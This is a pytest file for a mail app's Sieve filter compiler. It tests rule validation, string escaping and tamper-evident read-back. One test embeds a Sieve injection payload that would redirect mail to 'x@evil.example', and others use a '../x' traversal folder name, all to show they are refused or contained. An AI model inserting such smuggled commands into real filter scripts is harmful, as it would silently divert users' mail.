"""Filter rules (core/sieve_filters.py): checked with the field and reason named, compiled
to Sieve with every typed value quoted, and read back only from an unchanged script."""

from __future__ import annotations

import pytest

from mailgothai.core.sieve_filters import Action, Field, check_rules, compile_rules, read_script, sieve_string
from mailgothai.errors import InvalidInput


def refused(data: object, own: str = "") -> InvalidInput:
    with pytest.raises(InvalidInput) as caught:
        check_rules(data, own)
    return caught.value


def test_rules_are_read_with_thai_folders_and_normalised_addresses() -> None:
    rules = check_rules([
        {"field": "subject", "contains": "ประชุม", "action": "move", "folder": "งาน/ประชุม"},
        {"field": "sender", "contains": "boss@", "action": "forward", "address": "Malee@MOPH.go.th"},
        {"field": "sender", "contains": "spam", "action": "discard"},
    ])
    assert [(r.field, r.action) for r in rules] == [(Field.SUBJECT, Action.MOVE), (Field.SENDER, Action.FORWARD),
                                                    (Field.SENDER, Action.DISCARD)]
    assert rules[0].folder == "งาน/ประชุม" and rules[1].address == "malee@moph.go.th"


@pytest.mark.parametrize(("data", "field", "code"), [
    ("not a list", "rules", "not_a_rule_list"),
    ([{"field": "body", "contains": "x", "action": "discard"}], "rules[0].field", "not_a_choice"),
    ([{"field": "Subject", "contains": "x", "action": "discard"}], "rules[0].field", "not_a_choice"),
    ([{"field": "subject", "contains": "  ", "action": "discard"}], "rules[0].contains", "empty"),
    ([{"field": "subject", "contains": "a\nb", "action": "discard"}], "rules[0].contains", "text_control_character"),
    ([{"field": "subject", "contains": "x" * 201, "action": "discard"}], "rules[0].contains", "text_too_long"),
    ([{"field": "subject", "contains": "x", "action": "reject"}], "rules[0].action", "not_a_choice"),
    ([{"field": "subject", "contains": "x", "action": "move"}], "rules[0].folder", "not_a_string"),
    ([{"field": "subject", "contains": "x", "action": "move", "folder": "a//b"}], "rules[0].folder",
     "folder_name_shape"),
    ([{"field": "subject", "contains": "x", "action": "move", "folder": "../x"}], "rules[0].folder",
     "folder_name_shape"),
    ([{"field": "subject", "contains": "x", "action": "move", "folder": "a*"}], "rules[0].folder",
     "folder_name_shape"),
    ([{"field": "subject", "contains": "x", "action": "move", "folder": "a\r\nb"}], "rules[0].folder",
     "text_control_character"),
    ([{"field": "subject", "contains": "x", "action": "forward", "address": "no-at"}], "rules[0].address",
     "at_missing"),
    ([{"field": "subject", "contains": "x", "action": "discard", "extra": 1}], "rules[0].extra", "unknown_field"),
    ([{"field": "subject", "contains": "x", "action": "discard"}] * 101, "rules", "too_many_rules"),
])
def test_bad_rules_are_refused_naming_the_field(data: object, field: str, code: str) -> None:
    error = refused(data)
    assert (error.field, error.code) == (field, code)


def test_forwarding_to_oneself_is_refused() -> None:
    error = refused([{"field": "subject", "contains": "x", "action": "forward", "address": "a@b.go.th"}],
                    own="A@b.go.th")
    assert (error.field, error.code) == ("rules[0].address", "forward_to_itself")


@pytest.mark.parametrize(("value", "quoted"), [
    ('say "hi"', r'"say \"hi\""'),
    ("back\\slash", r'"back\\slash"'),
    ('\\"', r'"\\\""'),
    ("${hex:41}", '"${hex:41}"'),
    ("ไทย", '"ไทย"'),
])
def test_sieve_strings_escape_quote_and_backslash(value: str, quoted: str) -> None:
    assert sieve_string(value) == quoted


@pytest.mark.parametrize("value", ["a\nb", "a\rb", "a\0b", "a\tb"])
def test_sieve_strings_refuse_control_characters(value: str) -> None:
    with pytest.raises(ValueError):
        sieve_string(value)


def test_an_injection_attempt_stays_inside_its_string() -> None:
    hostile = '"; discard; stop; if true { redirect "x@evil.example"; } #\\'
    script = compile_rules(check_rules([{"field": "subject", "contains": hostile, "action": "move",
                                         "folder": 'In"box\\'}]))
    body = script.split("\n", 4)[4]
    assert body.count("discard") == 1 and "redirect" not in body.replace(hostile.replace('"', '\\"'), "")
    assert r'if header :contains "subject" "\"; discard; stop; if true { redirect \"x@evil.example\"; } #\\" {' \
        in body
    assert r'fileinto :create "In\"box\\";' in body


def test_the_web_reads_back_its_own_script_and_only_while_unchanged() -> None:
    rules = check_rules([{"field": "subject", "contains": "ประชุม\"", "action": "move", "folder": "งาน"},
                         {"field": "sender", "contains": "x", "action": "forward", "address": "a@b.go.th"}])
    script = compile_rules(rules)
    assert script.splitlines()[2].isascii()  # the rules' JSON: one comment line whatever the text
    back = read_script(script)
    assert back.intact and back.rules == rules
    assert read_script(script.replace("\n", "\r\n")).rules == rules  # as a client may store it
    assert not read_script(script.replace('fileinto :create "งาน"', 'fileinto :create "Trash"')).intact
    assert not read_script(script.replace("ประชุม", "x")).intact
    assert not read_script('require "fileinto";\nfileinto "x";\n').intact
    assert not read_script("").intact
    assert read_script(compile_rules(())).intact
